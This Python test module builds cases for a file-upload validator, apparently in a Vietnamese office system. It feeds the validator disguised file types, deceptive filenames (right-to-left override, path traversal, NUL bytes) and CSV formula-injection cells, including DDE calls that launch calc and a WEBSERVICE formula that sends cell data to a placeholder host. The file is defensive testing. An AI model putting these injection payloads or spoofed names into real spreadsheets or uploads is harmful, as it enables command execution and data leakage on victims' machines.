"""Plain text and tables, files of other kinds, wrong endings and bad names."""

from __future__ import annotations

import bz2
import gzip
from collections.abc import Callable, Iterator
from functools import partial

from vanphong.files.tests import samples as s
from vanphong.files.tests.corpus.case import Case, clean, hostile
from vanphong.files.tests.corpus.packages import base
from vanphong.files.tests.corpus.pdfs import zip_of

Make = Callable[[], bytes]
GOOD: dict[str, Make] = {
    "pdf": s.pdf, "docx": partial(base, "docx"), "xlsx": partial(base, "xlsx"), "png": s.png,
    "jpg": lambda: s.saved(s.page_picture(), "JPEG"), "tif": s.tiff_of_two,
    "txt": "Kính gửi: Đảng ủy xã".encode,
}  # fmt: skip
_NOT_TAKEN: dict[str, bytes] = {
    "program": b"MZ\x90\0" + b"\0" * 200, "unix program": b"\x7fELF" + b"\0" * 200,
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "rtf": b"{\\rtf1 a}",
    "gif": b"GIF89a" + b"\0" * 50, "rar": b"Rar!\x1a\x07" + b"\0" * 50,
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "page": b"<!DOCTYPE html><script>1</script>",
    "page in capitals": b"\n\n <HTML><BODY>", "svg": b"<svg onload='1'/>",
    "xml": b"<?xml version='1.0'?><a/>",
    "script page": b"<script>1</script>", "php": b"<?php system('a');",
    "marked page": b"\xef\xbb\xbf<html>", "frame": b"<iframe src='//an.example'>",
    "wide page": "\ufeff<html><script>1".encode("utf-16-le"),
}  # fmt: skip
_OTHER: dict[str, bytes] = {
    "gz": gzip.compress(b"a", mtime=0), "bz2": bz2.compress(b"a"), "class": b"\xca\xfe\xba\xbe\0\0",
    "plain zip": zip_of("a.txt", b"a"), "java": zip_of("META-INF/MANIFEST.MF", b"a"),
    "odt": zip_of("mimetype", b"application/vnd.oasis.opendocument.text"),
    "webp": b"RIFF\0\0\0\0WEBPVP8 ", "bmp": b"BM" + b"\0" * 60, "ps": b"%!PS-Adobe-3.0\n",
    "wide tiff": b"II+\0" + b"\0" * 60, "words": "Kính gửi".encode(),
}  # fmt: skip
_ENDINGS = ("exe", "js", "html", "svg", "docm", "xlsm", "doc", "xls", "zip", "odt", "eml", "lnk",
            "gif", "rtf", "iso", "pdf.exe")  # fmt: skip
_NAMES = (
    "bao\u202efdp.exe.pdf", "bao\u200bcao.pdf", "a\0.pdf", "../a.pdf", "c:\\a.pdf", ".pdf",
    "con.pdf", "a" * 150 + ".pdf", "baocao", "baocao.", "a\r\nb.pdf", "a\u2066b.pdf", 'a"b.pdf',
    "a<b>.pdf", "a\u2028b.pdf",
)  # fmt: skip
_ACTING_CELLS = (
    "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+cmd|' /c calc'!A0", "@SUM(cmd|'/c calc'!A0)",
    '=WEBSERVICE("http://an.example/"&A1)', '=IMPORTXML("http://an.example","//a")',
    '=IMAGE("http://an.example")', "\t=cmd|'/c calc'!A0", '"=DDE(""cmd"",""/c calc"")"',
)  # fmt: skip


def hostile_cases() -> Iterator[Case]:
    for what, content in _NOT_TAKEN.items():
        for ending in ("pdf", "png", "txt"):
            yield hostile(f"{what} as {ending}", f"a.{ending}", lambda c=content: c,
                          "file_type_refused")  # fmt: skip
    for what, content in _OTHER.items():
        for ending in ("pdf", "docx"):
            yield hostile(f"{what} as {ending}", f"a.{ending}", lambda c=content: c,
                          "file_type_mismatch")  # fmt: skip
    for kind, make in GOOD.items():
        for ending in GOOD:
            if ending != kind:
                yield hostile(f"{kind} as {ending}", f"a.{ending}", make, "file_type_mismatch")
    yield from _odd_texts()
    for ending in _ENDINGS:
        yield hostile(f"pdf named {ending}", f"a.{ending}", s.pdf, "file_type_refused")
    for name in _NAMES:
        yield hostile(f"name {name!a:.20}", name, s.pdf)
    yield hostile("nothing", "a.pdf", lambda: b"", "file_empty")
    yield hostile("too large", "a.txt", lambda: b"a" * (50 * 1024 * 1024 + 1), "file_too_large")


def _odd_texts() -> Iterator[Case]:
    for ending in ("txt", "csv"):
        name = f"a.{ending}"
        yield hostile(f"nul in {ending}", name, lambda: b"a\0b", "text_binary")
        yield hostile(f"unmarked wide {ending}", name, lambda: "Kính".encode("utf-16-le"),
                      "text_binary", "text_encoding")  # fmt: skip
        yield hostile(f"odd wide {ending}", name, lambda: b"\xff\xfea", "text_encoding")
        for encoding in ("cp1258", "latin-1", "utf-16-be"):
            yield hostile(f"{encoding} {ending}", name, lambda e=encoding: "Thêm Đo".encode(
                e, "replace") + b"\xe9", "text_encoding", "text_binary")  # fmt: skip
    for cell in _ACTING_CELLS:
        for row in ("{0},1", "Số;{0}"):
            yield hostile(f"csv {row} {cell}", "a.csv",
                          lambda r=row, c=cell: ("Số,Việc\n" + r.format(c)).encode(),
                          "table_active_cell")  # fmt: skip


def heavy_cases() -> Iterator[tuple[str, str, Make]]:
    """Much text of an odd form: either answer, but soon."""
    yield "one line of 20 MB", "a.txt", lambda: b"a" * 20_000_000
    yield "a million columns", "a.csv", lambda: b"a," * 1_000_000
    yield "open quotes", "a.csv", lambda: b'"a\n' * 300_000
    yield "a million rows", "a.csv", lambda: b"a,b\n" * 1_000_000


def clean_cases() -> Iterator[Case]:
    words = "Số,Ngày,Trích yếu\n1,02/11/2026,Về việc chuẩn bị kỳ họp quý III\n"
    forms = {
        "utf-8": words.encode(),
        "marked": words.encode("utf-8-sig"),
        "wide": words.encode("utf-16"),
        "windows": words.replace("\n", "\r\n").encode(),
    }
    for form, content in forms.items():
        for ending in ("txt", "csv"):
            yield clean(f"{ending} {form}", f"sổ {form}.{ending}", lambda c=content: c)
    for delimiter in (";", "\t", "|"):
        yield clean(f"csv by {delimiter!r}", "a.csv",
                    lambda d=delimiter: words.replace(",", d).encode())  # fmt: skip
    for cell in ("-5", "+84 24 1234567", "=A1+B1", "a < b", "@vanphong", "- việc thứ nhất",
                 "=SUM(A1:A9)", "ghi chú: a|b! c", "<không có>"):  # fmt: skip
        yield clean(f"csv cell {cell}", "a.csv", lambda c=cell: f"Số,Việc\n1,{c}\n".encode())
    for count in range(14):
        text = "\n".join([*s.LETTER, f"Số {count}-CV/VPTU"] * (count + 1))
        yield clean(f"txt letter {count}", f"thư {count}.txt", lambda t=text: t.encode())
    for ending, name in (
        ("pdf", "Báo cáo (bản 2) – tháng 11.PDF"),
        ("docx", "Tờ trình số 5.DOCX"),
        ("xlsx", "Biểu tổng hợp & so sánh.xlsx"),
        ("jpg", "Ảnh chụp.JPEG"),
    ):
        yield clean(f"name of {ending}", name, GOOD[ending])
